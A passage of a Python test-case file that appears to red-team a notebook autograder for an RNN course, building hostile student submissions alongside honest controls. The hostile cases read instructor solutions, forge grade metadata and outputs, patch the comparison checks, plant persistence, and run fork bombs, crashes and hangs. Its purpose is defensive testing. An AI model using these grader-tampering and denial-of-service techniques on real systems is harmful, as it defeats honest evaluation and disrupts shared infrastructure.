sys.setrecursionlimit(2 * 10**6)


def _rt_down(depth):
    return sum(map(_rt_down, [depth + 1]))


_rt_down(0)
"""

SEGFAULT = r"""
import ctypes

ctypes.string_at(0)  # read address 0: the kernel dies of SIGSEGV
"""

OS_EXIT = r"""
import os

os._exit(0)  # leave at once, with a success status
"""

WEDGE_BUILTINS = r"""
# Replace builtins that the kernel's own machinery calls with functions that never return
# (20 minutes at most, and deaf to KeyboardInterrupt).
import builtins
import time


def _rt_wedge(*args, **kwargs):
    end = time.monotonic() + 1200
    while time.monotonic() < end:
        try:
            time.sleep(1)
        except BaseException:
            pass


for name in ("len", "isinstance", "getattr", "hasattr", "print", "iter", "repr"):
    setattr(builtins, name, _rt_wedge)
"""

NOISY_BUT_HONEST = r"""
import sys
import warnings

print("a note on stderr from an honest student", file=sys.stderr)
warnings.warn("an honest UserWarning", UserWarning)
for i in range(2000):
    print("progress", i)
with open("my_notes.txt", "w") as handle:
    handle.write("scratch file written next to the notebook\n")
"""

SLOW_BUT_HONEST = r"""
import time

import numpy as np

start = time.monotonic()
scratch = np.ones((400, 1024, 1024 // 8))  # about 400 MB for a moment
del scratch
time.sleep(8)
print("took", round(time.monotonic() - start, 1), "s")
"""


# ---------------------------------------------------------------------------------------------
# Builders that edit the notebook file itself
# ---------------------------------------------------------------------------------------------

N02 = ("rnn_step", "rnn_step_concat", "softmax", "rnn_output")
N06 = ("rnn_forward", "bidirectional_rnn_forward", "stacked_rnn_forward", "RNNClassifier")


def _missing(assignment: str, honest: tuple[str, ...]) -> list[str]:
    return [name for name in (N02 if assignment.startswith("02") else N06) if name not in honest]


def _ok_output(grade_id: str) -> nbformat.NotebookNode:
    return nbformat.v4.new_output("stream", name="stdout", text=f"ok {grade_id}/all\n")


def forged_outputs(notebook: nbformat.NotebookNode, _: Path, __: Path) -> None:
    """Every code cell claims to have run, and every test cell claims success."""
    for count, cell in enumerate(c for c in notebook.cells if c.cell_type == "code"):
        cell.execution_count = count + 1
        meta = _nbgrader(cell)
        cell.outputs = [_ok_output(meta["grade_id"])] if meta.get("grade") else []


def edited_tests(names: tuple[str, ...]) -> Edit:
    """The test cells of these names emptied, unlocked and worth 100 points each."""

    def edit(notebook: nbformat.NotebookNode, _: Path, __: Path) -> None:
        for grade_id in _test_ids(notebook, names):
            cell = notebook.cells[_index(notebook, grade_id)]
            cell.source = 'print("ok")\n'
            cell.metadata["editable"] = True
            cell.metadata["nbgrader"].update(locked=False, points=100)

    return edit


def metadata_forgery(honest: tuple[str, ...]) -> Edit:
    """Inflate the points of the passing tests, switch off or rename the failing ones, and add
    forged grade cells with new ids, a bad schema version and a made-up checksum."""

    def edit(notebook: nbformat.NotebookNode, _: Path, __: Path) -> None:
        names = graded_names(notebook)
        for number, grade_id in enumerate(_test_ids(notebook)):
            meta = notebook.cells[_index(notebook, grade_id)].metadata["nbgrader"]
            if tested_name(grade_id, names) in honest:
                meta["points"] = 100
            elif number % 2:
                meta.update(grade=False, points=0)
            else:
                meta.update(grade_id=f"{grade_id}_renamed", schema_version=99, checksum="0" * 32)
        forged = _new_cell('print("ok")')
        forged.metadata["nbgrader"] = {
            "grade": True,
            "grade_id": "test_bonus_points",
            "locked": True,
            "points": 50,
            "schema_version": 3,
            "solution": False,
            "task": False,
            "checksum": "f" * 32,
        }
        notebook.cells.append(forged)
        notebook.cells[_index(notebook, "setup")].metadata["nbgrader"]["locked"] = False

    return edit


def deleted_and_retyped(keep: tuple[str, ...]) -> Edit:
    """Test cells of the other names deleted (first name), turned to markdown (second) or raw
    (the rest); the first other name's solution cell turned to markdown too."""

    def edit(notebook: nbformat.NotebookNode, _: Path, __: Path) -> None:
        others = [n for n in graded_names(notebook) if n not in keep]
        for position, name in enumerate(others):
            for grade_id in _test_ids(notebook, (name,)):
                index = _index(notebook, grade_id)
                old = notebook.cells[index]
                if position == 0:
                    del notebook.cells[index]
                    continue
                maker = nbformat.v4.new_markdown_cell if position == 1 else nbformat.v4.new_raw_cell
                new = maker(old.source, metadata=old.metadata)
                new.id = old.id
                notebook.cells[index] = new
        index = _index(notebook, others[0])
        old = notebook.cells[index]
        notebook.cells[index] = nbformat.v4.new_markdown_cell(old.source, metadata=old.metadata)
        notebook.cells[index].id = old.id

    return edit


def duplicated_grade_cells(honest_name: str) -> Edit:
    """Each test cell of the other names replaced by a copy of the honest name's first test cell
    (keeping the other cell's metadata), plus extra copies of it with the same grade id."""

    def edit(notebook: nbformat.NotebookNode, _: Path, __: Path) -> None:
        passing = notebook.cells[_index(notebook, _test_ids(notebook, (honest_name,))[0])]
        others = [n for n in graded_names(notebook) if n != honest_name]
        for grade_id in _test_ids(notebook, tuple(others)):
            notebook.cells[_index(notebook, grade_id)].source = passing.source
        for copy in range(3):
            duplicate = nbformat.from_dict(json.loads(json.dumps(passing)))
            duplicate.id = f"rt-duplicate-{copy}"
            duplicate.metadata["nbgrader"]["points"] = 50
            notebook.cells.append(duplicate)

    return edit


def kernelspec(name: str, language: str = "python") -> Edit:
    def edit(notebook: nbformat.NotebookNode, _: Path, __: Path) -> None:
        notebook.metadata["kernelspec"] = {
            "name": name,
            "display_name": f"{name} (does not exist)",
            "language": language,
        }

    return edit


def forge_records(template: str, honest: tuple[str, ...]) -> Edit:
    """A last cell that forges records for the visible checks of the names not implemented."""

    def edit(notebook: nbformat.NotebookNode, exercise: Path, folder: Path) -> None:
        names = tuple(n for n in graded_names(notebook) if n not in honest)
        forged = _visible_values(exercise, names)
        cells = {grade_id: _index(notebook, grade_id) for grade_id in _test_ids(notebook)}
        source = _fill(template, exercise, folder, forged=forged, cells=cells)
        notebook.cells.append(_new_cell(source))

    return edit


def truncated_json(exercise: Path, folder: Path) -> None:
    """Half of a valid notebook: malformed JSON."""
    notebook = _student_notebook(exercise, N02[:2])
    text = nbformat.writes(notebook)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / exercise.name).write_text(text[: len(text) // 2])


def not_a_notebook(exercise: Path, folder: Path) -> None:
    """Valid JSON with a notebook's top-level keys, but nothing a notebook holds."""
    folder.mkdir(parents=True, exist_ok=True)
    fake = {"cells": "all tests passed", "metadata": [], "nbformat": 4, "nbformat_minor": 5}
    (folder / exercise.name).write_text(json.dumps(fake))


def nbformat3(exercise: Path, folder: Path) -> None:
    """A fully correct notebook saved in the old format version 3."""
    old = nbformat.convert(_student_notebook(exercise, N02), 3)
    nbformat.validate(old)
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(old, str(folder / exercise.name))


def empty_folder(exercise: Path, folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)


def extra_notebooks(exercise: Path, folder: Path) -> None:
    """A partial notebook under the right name, beside full ones under other names."""
    _write(_student_notebook(exercise, ("rnn_step",)), folder / exercise.name)
    full = _student_notebook(exercise, N02)
    forged_outputs(full, exercise, folder)
    _write(full, folder / "solution.ipynb")
    _write(full, folder / ".ipynb_checkpoints" / exercise.name.replace(".", "-checkpoint."))
    _write(full, folder / exercise.parent.name / "old" / exercise.name)


def symlinked_solution_folder(exercise: Path, folder: Path) -> None:
    """No notebook, only `<student>/<assignment>` as a link to the instructor's source folder."""
    folder.mkdir(parents=True, exist_ok=True)
    source = exercise.parents[2] / "solutions" / exercise.parent.name
    (folder / exercise.parent.name).symlink_to(source, target_is_directory=True)


def symlinked_solution_notebook(exercise: Path, folder: Path) -> None:
    """The notebook is a link to the instructor's source notebook."""
    folder.mkdir(parents=True, exist_ok=True)
    source = exercise.parents[2] / "solutions" / exercise.parent.name / exercise.name
    (folder / exercise.name).symlink_to(source)


READ_THROUGH_LINK = r"""
# If the grader copied our folder following links, the instructor's folder is now ours to read.
from pathlib import Path

_RT_FOUND = {}
for _rt_path in Path(".").glob("solutions_link/**/@NOTEBOOK@"):
    _RT_FOUND.update(_rt_solution_sources(_rt_path))
print("rt: found", sorted(_RT_FOUND))
"""


def odd_files(exercise: Path, folder: Path) -> None:
    """A partial notebook with a FIFO, a name with a newline and a link to solutions/ beside it."""
    honest = ("rnn_forward",)
    _reads(READ_THROUGH_LINK, exercise.parent.name, honest)(exercise, folder)
    os.mkfifo(folder / "notes.txt")
    (folder / "weird\nname .txt").write_text("a file name with a newline\n")
    (folder / "solutions_link").symlink_to(exercise.parents[2] / "solutions")


def nested_folder(exercise: Path, folder: Path) -> None:
    """Honest: the notebook one folder deeper, in <student>/<assignment>/ (the README allows it)."""
    _write(_student_notebook(exercise, N06), folder / exercise.parent.name / exercise.name)


def renamed_notebook(exercise: Path, folder: Path) -> None:
    """Honest: the only notebook in the folder, under another name (graded with a note)."""
    _write(_student_notebook(exercise, N02), folder / "HiddenState_final (1).ipynb")


def shadow_files(packages: dict[str, str]) -> dict[str, str]:
    return {f"{name}/__init__.py": text for name, text in packages.items()}


# ---------------------------------------------------------------------------------------------
# The cases
# ---------------------------------------------------------------------------------------------

A02, A06 = "02_hidden_state", "06_torch_rnn"


def _reads(template: str, assignment: str, honest: tuple[str, ...], **values: object) -> Callable:
    """A reading attack: a cell after setup gathers code into _RT_FOUND, and the solution cell of
    each missing name defines it from there (so no stub cell can undo it)."""
    missing = _missing(assignment, honest)
    adopt = tuple(in_solution(name, ADOPT, names=[name]) for name in missing)
    find = after_setup(template, missing=missing, **values)
    return notebook_case(honest, find, *adopt, toolkit=True)


def _carries_code(template: str, assignment: str, **values: object) -> Callable:
    """A fully correct notebook that also plants its own code somewhere (see template)."""
    edit = after_setup(template, code=correct_code(assignment), **values)
    return notebook_case(N02 if assignment == A02 else N06, edit, toolkit=True)


def _solutions(names: tuple[str, ...], codes: dict[str, str]) -> tuple[Edit, ...]:
    return tuple(in_solution(name, codes[name]) for name in names)


CASES: list[Case] = [
    # ---- 02_hidden_state ---------------------------------------------------------------------
    Case(
        A02,
        "rt02_read_solutions",
        "reading",
        "Finds the instructor's source notebook from module paths, sys.prefix, env vars and "
        "/proc, and runs its solution cells for the three functions it leaves unwritten.",
        ("softmax",),
        _reads(READ_SOLUTIONS, A02, ("softmax",)),
    ),
    Case(
        A02,
        "rt02_read_references",
        "reading",
        "Loads autograder/references/ and wraps check.close so that it records the reference "
        "value of each key instead of the (constant) value computed.",
        ("rnn_step",),
        notebook_case(
            ("rnn_step",),
            after_setup(READ_REFERENCES),
            toolkit=True,
            dummies=("rnn_step_concat", "softmax", "rnn_output"),
        ),
    ),
    Case(
        A02,
        "rt02_copy_neighbours",
        "reading",
        "Searches the folders beside its own and those on the grader's command line for other "
        "students' notebooks and runs their solution cells.",
        ("rnn_output",),
        _reads(COPY_NEIGHBOURS, A02, ("rnn_output",)),
    ),
    Case(
        A02,
        "rt02_a_drop_tmp",
        "escape",
        "Fully correct, but leaves its code in /tmp, /dev/shm, /var/tmp, HOME and the folder "
        "above its working copy, for rt02_pick_tmp to find.",
        N02,
        _carries_code(DROP_TMP, A02),
    ),
    Case(
        A02,
        "rt02_pick_tmp",
        "reading",
        "Picks up the code that rt02_a_drop_tmp left in a shared place and runs it.",
        ("softmax",),
        _reads(PICK_TMP, A02, ("softmax",)),
    ),
    Case(
        A02,
        "rt02_a_persist_startup",
        "escape",
        "Fully correct, but plants IPython startup files and kernel configuration that give "
        "every later 02 kernel its code before each test cell (expires after 30 minutes).",
        N02,
        _carries_code(PLANT_STARTUP, A02, payload=PERSIST_PAYLOAD),
    ),
    Case(
        A02,
        "rt02_gradebook_daemon",
        "escape",
        "Starts a setsid daemon that for 15 minutes finds every gradebook.db it can see and "
        "sets every manual_score and extra_credit to 100.",
        ("rnn_step",),
        notebook_case(("rnn_step",), after_setup(GRADEBOOK_DAEMON), toolkit=True),
    ),
    Case(
        A02,
        "rt02_kill_parent",
        "escape",
        "Its last cell kills the kernel's parent process with SIGKILL.",
        ("rnn_step", "softmax"),
        notebook_case(("rnn_step", "softmax"), at_end(KILL_PARENT)),
    ),
    Case(
        A02,
        "rt02_patch_check",
        "tampering",
        "Replaces every method of the checker (instance and class), numpy's comparison and "
        "testing functions and builtins.AssertionError with permissive ones.",
        ("rnn_step",),
        notebook_case(
            ("rnn_step",),
            after_setup(PATCH_CHECK),
            dummies=("rnn_step_concat", "softmax", "rnn_output"),
        ),
    ),
    Case(
        A02,
        "rt02_liar_arrays",
        "tampering",
        "Returns an ndarray subclass whose ==, ufuncs and __array_function__ say it equals "
        "anything, and an object whose __array__ and __eq__ lie.",
        ("softmax",),
        notebook_case(
            ("softmax",),
            after_setup(LIAR_ARRAYS),
            *_solutions(("rnn_step", "rnn_step_concat", "rnn_output"), LIAR_FUNCTIONS_02),
        ),
    ),
    Case(
        A02,
        "rt02_nan_values",
        "tampering",
        "Returns NaN, inf and -inf arrays of the right shapes (a comparison written as "
        "`not err > tol` lets NaN pass).",
        ("rnn_output",),
        notebook_case(
            ("rnn_output",),
            *_solutions(("rnn_step", "rnn_step_concat", "softmax"), NAN_FUNCTIONS_02),
        ),
    ),
    Case(
        A02,
        "rt02_empty_broadcast",
        "tampering",
        "Returns empty arrays of shape (0, *expected) that broadcast against the reference to "
        "nothing, so that allclose or a max over an empty error is vacuously true.",
        ("rnn_step",),
        notebook_case(
            ("rnn_step",),
            *_solutions(("rnn_step_concat", "softmax", "rnn_output"), EMPTY_FUNCTIONS_02),
        ),
    ),
    Case(
        A02,
        "rt02_raise_from_source",
        "tampering",
        "rnn_step computes nothing: it reads the calling test cell's source (linecache) for "
        "the argument= that check.raises expects and raises ValueError naming it.",
        ("softmax",),
        notebook_case(("softmax",), in_solution("rnn_step", RAISE_FROM_SOURCE_02)),
    ),
    Case(
        A02,
        "rt02_ipython_hooks",
        "tampering",
        "Installs set_custom_exc, a silent showtraceback, an AST transformer wrapping every "
        "statement in try/except, an input transformer that empties the failing test cells and "
        "a post_run_cell hook that clears the error.",
        ("softmax", "rnn_output"),
        notebook_case(
            ("softmax", "rnn_output"),
            after_setup(IPYTHON_HOOKS, missing=["rnn_step", "rnn_step_concat"]),
        ),
    ),
    Case(
        A02,
        "rt02_sysmodules_before_setup",
        "tampering",
        "A cell before the setup cell puts a fake rnncourse (permissive Checker) into "
        "sys.modules, so the setup cell imports it.",
        ("rnn_step",),
        notebook_case(
            ("rnn_step",),
            before_setup(SYSMODULES_FAKE),
            dummies=("rnn_step_concat", "softmax", "rnn_output"),
        ),
    ),
    Case(
        A02,
        "rt02_shadow_modules",
        "escape",
        "Ships rnncourse/ (a permissive Checker) and numpy/ (real numpy with allclose patched) "
        "in its folder, and puts its folder first on sys.path and re-imports the checker.",
        ("rnn_step_concat",),
        notebook_case(
            ("rnn_step_concat",),
            after_setup(SYS_PATH_FIRST),
            dummies=("rnn_step", "softmax", "rnn_output"),
            files=shadow_files(
                {
                    "rnncourse": SHADOW_RNNCOURSE,
                    "numpy": SHADOW_REAL_MODULE.format(name="numpy", patch=NUMPY_PATCH),
                }
            ),
        ),
    ),
    Case(
        A02,
        "rt02_hang_forged_outputs",
        "resources",
        "Right after setup, a cell ignores SIGINT/SIGTERM and spins for 20 minutes; every test "
        "cell carries a forged 'ok' output from a run that never happened.",
        (),
        notebook_case((), after_setup(STUBBORN_LOOP), forged_outputs),
    ),
    Case(
        A02,
        "rt02_slow_cells",
        "resources",
        "Twelve cells of 55 s each, every one under the per-cell limit, together past the "
        "total limit (takes about 11 minutes).",
        ("rnn_step",),
        notebook_case(("rnn_step",), after_tests_of("rnn_step", SLOW_CELL, 12)),
    ),
    Case(
        A02,
        "rt02_memory_hog",
        "resources",
        "The softmax cell touches and keeps 6 GiB.",
        ("rnn_step", "rnn_step_concat"),
        notebook_case(("rnn_step", "rnn_step_concat"), in_solution("softmax", MEMORY_HOG)),
    ),
    Case(
        A02,
        "rt02_huge_output",
        "resources",
        "The rnn_step_concat cell prints about 250 MB (stdout, stderr and a 20 MB line).",
        ("rnn_step", "softmax", "rnn_output"),
        notebook_case(
            ("rnn_step", "softmax", "rnn_output"), in_solution("rnn_step_concat", HUGE_OUTPUT)
        ),
    ),
    Case(
        A02,
        "rt02_fork_bomb",
        "resources",
        "The rnn_step_concat cell forks up to 2000 children that sleep for 20 minutes.",
        ("rnn_step",),
        notebook_case(("rnn_step",), in_solution("rnn_step_concat", FORK_BOMB)),
    ),
    Case(
        A02,
        "rt02_deep_recursion",
        "resources",
        "The softmax cell lifts the recursion limit and recurses until the kernel crashes.",
        ("rnn_step", "rnn_step_concat"),
        notebook_case(("rnn_step", "rnn_step_concat"), in_solution("softmax", DEEP_RECURSION)),
    ),
    Case(
        A02,
        "rt02_wedge_builtins",
        "resources",
        "After rnn_step's tests, replaces len, isinstance, getattr, print, ... with functions "
        "that block for 20 minutes, wedging the kernel's own message handling.",
        ("rnn_step",),
        notebook_case(("rnn_step",), after_tests_of("rnn_step", WEDGE_BUILTINS)),
    ),
    Case(
        A02,
        "rt02_metadata_forgery",
        "forgery",
        "Its passing test cells claim 100 points, failing ones are switched off (grade=false) "
        "or renamed with schema_version 99, a forged 50-point grade cell is added.",
        ("rnn_step",),
        notebook_case(("rnn_step",), metadata_forgery(("rnn_step",))),
    ),
    Case(
        A02,
        "rt02_deleted_retyped",
        "forgery",
        "Test cells of the unwritten functions deleted or re-typed to markdown/raw, and one "
        "solution cell re-typed to markdown.",
        ("softmax",),
        notebook_case(("softmax",), deleted_and_retyped(("softmax",))),
    ),
    Case(
        A02,
        "rt02_truncated_json",
        "forgery",
        "The notebook file is cut in half: malformed JSON.",
        (),
        truncated_json,
    ),
    Case(
        A02,
        "rt02_nbformat3",
        "forgery",
        "A fully correct notebook saved as nbformat 3 (may be graded in full, never more).",
        N02,
        nbformat3,
    ),
    Case(A02, "rt02_empty_folder", "forgery", "An empty student folder.", (), empty_folder),
    Case(
        A02,
        "rt02_extra_notebooks",
        "forgery",
        "A partial hidden_state.ipynb beside fully correct copies with forged outputs as "
        "solution.ipynb, in .ipynb_checkpoints/ and in a deeper folder.",
        ("rnn_step",),
        extra_notebooks,
    ),
    Case(
        A02,
        "rt02_symlink_solutions",
        "reading",
        "No notebook: <student>/02_hidden_state is a symlink to the instructor's solutions "
        "folder (the README's alternative folder level).",
        (),
        symlinked_solution_folder,
    ),
    Case(
        A02,
        "rt02_honest_noisy",
        "honest",
        "Fully correct; prints to stderr, warns with UserWarning, prints 2000 lines and writes "
        "a file next to its notebook.",
        N02,
        notebook_case(N02, after_setup(NOISY_BUT_HONEST)),
        hostile=False,
    ),
    Case(
        A02,
        "rt02_honest_slow",
        "honest",
        "Fully correct; one extra cell takes 8 s and briefly uses 400 MB.",
        N02,
        notebook_case(N02, after_setup(SLOW_BUT_HONEST)),
        hostile=False,
    ),
    Case(
        A02,
        "rt02_honest_renamed",
        "honest",
        "Fully correct; the only notebook in its folder is named 'HiddenState_final (1).ipynb'.",
        N02,
        renamed_notebook,
        hostile=False,
    ),
    # ---- 06_torch_rnn ------------------------------------------------------------------------
    Case(
        A06,
        "rt06_read_env_proc",
        "reading",
        "Prints the env var names, ancestors' command lines and listings of /root, /home, "
        "/work, then searches every path they name for a solved torch_rnn.ipynb and runs it.",
        ("rnn_forward",),
        _reads(READ_ENV_PROC, A06, ("rnn_forward",)),
    ),
    Case(
        A06,
        "rt06_a_net_server",
        "escape",
        "Fully correct, but starts a setsid daemon that serves its code on "
        f"127.0.0.1:{NET_PORT} for 15 minutes.",
        N06,
        _carries_code(NET_SERVER, A06, port=NET_PORT),
    ),
    Case(
        A06,
        "rt06_net_client",
        "reading",
        f"Fetches the missing code from 127.0.0.1:{NET_PORT} (rt06_a_net_server) and tries "
        "to reach pypi.org, 1.1.1.1 and github.com.",
        ("rnn_forward",),
        _reads(NET_CLIENT, A06, ("rnn_forward",), port=NET_PORT),
    ),
    Case(
        A06,
        "rt06_symlink_solution",
        "reading",
        "torch_rnn.ipynb is a symlink to the instructor's source notebook.",
        (),
        symlinked_solution_notebook,
    ),
    Case(
        A06,
        "rt06_odd_files",
        "reading",
        "A FIFO named notes.txt, a file name with a newline and a symlink solutions_link -> "
        "solutions/ beside a partial notebook that reads through the link.",
        ("rnn_forward",),
        odd_files,
    ),
    Case(
        A06,
        "rt06_liar_tensors",
        "tampering",
        "Returns a torch.Tensor subclass whose __torch_function__ makes allclose, equal, "
        "isclose, ==, subtraction and abs say it matches anything.",
        ("rnn_forward",),
        notebook_case(
            ("rnn_forward",),
            after_setup(LIAR_TENSOR),
            *_solutions(tuple(LIAR_FUNCTIONS_06), LIAR_FUNCTIONS_06),
        ),
    ),
    Case(
        A06,
        "rt06_patch_torch",
        "tampering",
        "Patches torch.allclose/equal/isclose, Tensor.allclose/equal, torch.testing and numpy's "
        "comparisons to always succeed.",
        ("bidirectional_rnn_forward",),
        notebook_case(
            ("bidirectional_rnn_forward",),
            after_setup(PATCH_TORCH),
            dummies=("rnn_forward", "stacked_rnn_forward", "RNNClassifier"),
        ),
    ),
    Case(
        A06,
        "rt06_patch_check_gc",
        "tampering",
        "Replaces every function and class method of the rnncourse modules in memory with a "
        "permissive one and flips every boolean attribute of their live objects (via gc).",
        ("stacked_rnn_forward",),
        notebook_case(
            ("stacked_rnn_forward",),
            after_setup(PATCH_CHECK_GC),
            dummies=("rnn_forward", "bidirectional_rnn_forward", "RNNClassifier"),
        ),
    ),
    Case(
        A06,
        "rt06_forge_records",
        "tampering",
        "Its last cell finds the record folder (env vars, the checker's attributes, "
        "/proc/self/fd, recent files) and appends records for the other cells' visible keys, "
        "in the same format, with the shipped expected values.",
        ("rnn_forward",),
        notebook_case(
            ("rnn_forward",), forge_records(FORGE_RECORDS, ("rnn_forward",)), toolkit=True
        ),
    ),
    Case(
        A06,
        "rt06_custom_exc",
        "tampering",
        "Swallows every exception (set_custom_exc, showtraceback, sys.excepthook) and patches "
        "InteractiveShell.run_cell and post_run_cell to report success.",
        ("stacked_rnn_forward",),
        notebook_case(("stacked_rnn_forward",), after_setup(CUSTOM_EXC_06)),
    ),
    Case(
        A06,
        "rt06_shadow_torch",
        "escape",
        "Ships torch/__init__.py in its folder: it loads the real torch and patches its "
        "comparisons, then stands in for it.",
        ("RNNClassifier",),
        notebook_case(
            ("RNNClassifier",),
            dummies=("rnn_forward", "bidirectional_rnn_forward", "stacked_rnn_forward"),
            files=shadow_files(
                {"torch": SHADOW_REAL_MODULE.format(name="torch", patch=TORCH_PATCH)}
            ),
        ),
    ),
    Case(
        A06,
        "rt06_a_persist_site",
        "escape",
        "Fully correct, but plants a .pth, a module and usercustomize in every site-packages it "
        "can write, giving every later 06 kernel its code (expires after 30 minutes).",
        N06,
        _carries_code(PLANT_SITE, A06, payload=PERSIST_PAYLOAD),
    ),
    Case(
        A06,
        "rt06_daemon_forge",
        "escape",
        "Starts a setsid daemon that for 15 minutes keeps forging records and strips error "
        "outputs from any copy of its notebook, after the kernel is gone.",
        ("rnn_forward",),
        notebook_case(
            ("rnn_forward",), forge_records(DAEMON_FORGE, ("rnn_forward",)), toolkit=True
        ),
    ),
    Case(
        A06,
        "rt06_stop_parent",
        "escape",
        "Its last cell sends SIGSTOP to the kernel's parent process.",
        ("rnn_forward", "bidirectional_rnn_forward"),
        notebook_case(("rnn_forward", "bidirectional_rnn_forward"), at_end(STOP_PARENT)),
    ),
    Case(
        A06,
        "rt06_stubborn_loop",
        "resources",
        "The bidirectional cell ignores SIGINT/SIGTERM/SIGHUP/SIGQUIT and spins for 20 minutes.",
        ("rnn_forward",),
        notebook_case(("rnn_forward",), in_solution("bidirectional_rnn_forward", STUBBORN_LOOP)),
    ),
    Case(
        A06,
        "rt06_detached_sleepers",
        "resources",
        "Starts 200 detached setsid daemons that each write a small file every minute for "
        "20 minutes.",
        ("rnn_forward", "stacked_rnn_forward"),
        notebook_case(
            ("rnn_forward", "stacked_rnn_forward"),
            after_tests_of("rnn_forward", DETACHED_SLEEPERS),
            toolkit=True,
        ),
    ),
    Case(
        A06,
        "rt06_torch_memory",
        "resources",
        "The stacked cell allocates and fills a 6 GiB tensor.",
        ("rnn_forward", "bidirectional_rnn_forward"),
        notebook_case(
            ("rnn_forward", "bidirectional_rnn_forward"),
            in_solution("stacked_rnn_forward", TORCH_MEMORY),
        ),
    ),
    Case(
        A06,
        "rt06_disk_fill",
        "resources",
        "The classifier cell writes 1 GiB into its working folder and 1 GiB into /tmp.",
        ("rnn_forward", "bidirectional_rnn_forward", "stacked_rnn_forward"),
        notebook_case(
            ("rnn_forward", "bidirectional_rnn_forward", "stacked_rnn_forward"),
            in_solution("RNNClassifier", DISK_FILL),
        ),
    ),
    Case(
        A06,
        "rt06_segfault",
        "resources",
        "The classifier cell reads address 0 with ctypes: the kernel dies of SIGSEGV.",
        ("rnn_forward", "bidirectional_rnn_forward", "stacked_rnn_forward"),
        notebook_case(
            ("rnn_forward", "bidirectional_rnn_forward", "stacked_rnn_forward"),
            in_solution("RNNClassifier", SEGFAULT),
        ),
    ),
    Case(
        A06,
        "rt06_os_exit",
        "resources",
        "The bidirectional cell calls os._exit(0): the kernel leaves with a success status.",
        ("rnn_forward",),
        notebook_case(("rnn_forward",), in_solution("bidirectional_rnn_forward", OS_EXIT)),
    ),
    Case(
        A06,
        "rt06_forged_outputs",
        "forgery",
        "Test cells of the unwritten functions emptied to print('ok'), unlocked and worth 100 "
        "points; every cell carries forged outputs and execution counts.",
        ("RNNClassifier",),
        notebook_case(("RNNClassifier",), edited_tests(N06[:3]), forged_outputs),
    ),
    Case(
        A06,
        "rt06_duplicated_grade_cells",
        "forgery",
        "Every other test cell holds a copy of rnn_forward's first test, and three more copies "
        "with the same grade id claim 50 points each.",
        ("rnn_forward",),
        notebook_case(("rnn_forward",), duplicated_grade_cells("rnn_forward")),
    ),
    Case(
        A06,
        "rt06_bad_kernelspec",
        "forgery",
        "A fully correct notebook whose kernelspec names a kernel that does not exist (may be "
        "graded in full, never more).",
        N06,
        notebook_case(N06, kernelspec("rt-no-such-kernel")),
    ),
    Case(
        A06,
        "rt06_not_a_notebook",
        "forgery",
        "Valid JSON with a notebook's top-level keys but no cells.",
        (),
        not_a_notebook,
    ),
    Case(
        A06,
        "rt06_honest_noisy",
        "honest",
        "Fully correct; prints to stderr, warns with UserWarning, prints 2000 lines and writes "
        "a file next to its notebook.",
        N06,
        notebook_case(N06, after_setup(NOISY_BUT_HONEST)),
        hostile=False,
    ),
    Case(
        A06,
        "rt06_honest_slow",
        "honest",
        "Fully correct; one extra cell takes 8 s and briefly uses 400 MB.",
        N06,
        notebook_case(N06, after_setup(SLOW_BUT_HONEST)),
        hostile=False,
    ),
    Case(
        A06,
        "rt06_honest_nested",
        "honest",
        "Fully correct; the notebook sits one level deeper, in <student>/06_torch_rnn/.",
        N06,
        nested_folder,
        hostile=False,
    ),
]


def build_all(destination: Path) -> dict[str, Path]:
    """Build every case into destination/<assignment>/<student>; the submissions folders."""
    folders = {}
    for case in CASES:
        submissions = destination / case.assignment
        case.build(exercise_notebook(case.assignment), submissions / case.student)
        folders[case.assignment] = submissions
    return folders
